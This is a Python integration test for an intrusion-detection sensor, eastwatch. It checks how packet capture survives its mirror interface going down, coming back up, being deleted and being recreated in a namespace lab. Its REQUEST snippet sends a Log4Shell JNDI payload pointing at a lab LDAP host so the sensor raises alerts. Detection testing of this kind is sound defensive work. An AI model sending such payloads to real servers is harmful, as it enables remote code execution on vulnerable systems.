"""An interface that goes down or away during a live capture (tests/hypervisor/hypervisor.sh):
eastwatch captures the sensor's mirror port (eth0 in the sensor namespace) with
capture.retry-delay 100ms / retry-max 400ms while vm1 attacks vm2 (the Log4Shell HTTP
request of test_hypervisor.py) four times:
  1. with the port up;
  2. after the hypervisor side of the port (span0) is taken down: eth0 has no carrier (logged
     once), the mirror drops the copies, so this attack is not seen;
  3. after span0 is up again (logged): the same socket captures again;
  4. after span0 (and so eth0) was deleted (logged: the interface failed; reopen attempts fail
     meanwhile) and recreated with its mirror: eastwatch reopened eth0 (logged).
While eth0 is gone, a request over lo (captured too, `-i lo`) alerts: the other interface's
capture thread goes on. Then span0 is deleted again and SIGTERM arrives while eastwatch waits
to reopen it.
Asserts: eastwatch never exits until SIGTERM, then exits 0 (also while waiting); each state
change is logged once; the Log4Shell alerts are exactly those of attacks 1, 3 and 4 (three flows,
by source port); stats.log counts capture.interface-down 3 and capture.reopens 1. Needs root; exits 77 (ctest:
skipped) otherwise.

usage: test_capture_retry.py --eastwatch BIN --source REPO [--work DIR]
"""
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hvlib  # noqa: E402
from hvlib import GUEST2  # noqa: E402

PREFIX = f"ewrt{os.getpid() % 10000}"

# One Log4Shell request; prints the client's source port.
REQUEST = r"""
import socket, sys
c = socket.create_connection((sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 8080), timeout=5)
c.sendall(b"GET / HTTP/1.1\r\nHost: app\r\nUser-Agent: ${jndi:ldap://10.77.0.1:1389/x}\r\n\r\n")
c.recv(4096); print(c.getsockname()[1], flush=True); c.close()
"""


def request(port_list, guest="vm1", target=GUEST2, *port):
    result = hvlib.sh(*hvlib.netns(PREFIX, guest, "/usr/bin/python3", "-c", REQUEST, target, *port))
    port_list.append(int(result.stdout.strip()))
    time.sleep(0.5)  # the ring hands blocks over after its 100 ms timeout


def stats_log(out):
    values = {}
    for line in open(os.path.join(out, "stats.log")):
        parts = [part.strip() for part in line.split("|")]
        if len(parts) == 3 and parts[2].isdigit():
            values[parts[0]] = int(parts[2])
    return values


def test(lab):
    host = ["ip", "-n", f"{PREFIX}-host"]
    sensor = lab.start_sensor([lab.args.eastwatch, "-i", "eth0", "-i", "lo", "-S", lab.rules, "-l", lab.out,
                               "--set", "capture.retry-delay=100ms", "--set", "capture.retry-max=400ms",
                               "--set", "vars.address-groups.HOME_NET=[10.77.0.0/24,127.0.0.0/8]"])
    lab.processes.append(hvlib.start_listener(PREFIX, "vm2"))
    seen, unseen = [], []
    request(seen)                                          # 1: up

    hvlib.sh(*host, "link", "set", "span0", "down")
    sensor.wait_for("interface 'eth0' is down (no carrier)")
    request(unseen)                                        # 2: the mirror's port is down
    hvlib.sh(*host, "link", "set", "span0", "up")
    sensor.wait_for("interface 'eth0' is up again")
    request(seen)                                          # 3: the same socket again

    hvlib.sh(*host, "link", "del", "span0")
    sensor.wait_for("interface 'eth0' failed")
    lab.processes.append(hvlib.start_listener(PREFIX, "sensor", 8081))
    local = []
    request(local, "sensor", "127.0.0.1", "8081")          # lo's capture thread goes on meanwhile
    time.sleep(0.5)                                        # reopen attempts fail meanwhile
    assert "reopened" not in sensor.stderr, sensor.stderr
    hvlib.sh("bash", lab.script, "respan", PREFIX)
    sensor.wait_for("interface 'eth0' reopened")
    request(seen)                                          # 4: a new socket on the new eth0

    hvlib.sh(*host, "link", "del", "span0")                # SIGTERM while it waits to reopen
    sensor.stderr = sensor.stderr.replace("'eth0' failed", "'eth0' FAILED")
    sensor.wait_for("interface 'eth0' failed")
    stderr = sensor.stop().replace("'eth0' FAILED", "'eth0' failed")
    for message, times in (("'eth0' is down (no carrier)", 1), ("'eth0' is up again", 1), ("'eth0' failed", 2),
                           ("'eth0' reopened", 1)):
        assert stderr.count(message) == times, f"'{message}' logged {times} time(s): {stderr}"
    records = hvlib.read_eve(lab.out)
    alerted = sorted(a["src_port"] for a in hvlib.alerts_of(records)
                     if a["alert"]["signature_id"] == 9000001 and a["dest_ip"] == GUEST2)
    on_lo = [a["src_port"] for a in hvlib.alerts_of(records)
             if a["alert"]["signature_id"] == 9000001 and a["dest_ip"] == "127.0.0.1"]
    assert on_lo == local, f"the request over lo while eth0 was gone alerted once: {on_lo} vs {local}"
    assert alerted == sorted(seen), f"alerts for the requests while up {sorted(seen)} only: {alerted} " \
                                    f"(unseen while down: {unseen})"
    counters = stats_log(lab.out)
    assert counters.get("capture.interface-down") == 3, counters
    assert counters.get("capture.reopens") == 1, counters
    print(f"PASS test_capture_retry: alerts for source ports {alerted}, down while {unseen}; "
          f"interface-down {counters['capture.interface-down']}, reopens {counters['capture.reopens']}, "
          f"down-seconds {counters.get('capture.down-seconds')}")


if __name__ == "__main__":
    sys.exit(hvlib.run_test("test_capture_retry", PREFIX, "/tmp/eastwatch-capture-retry", test))
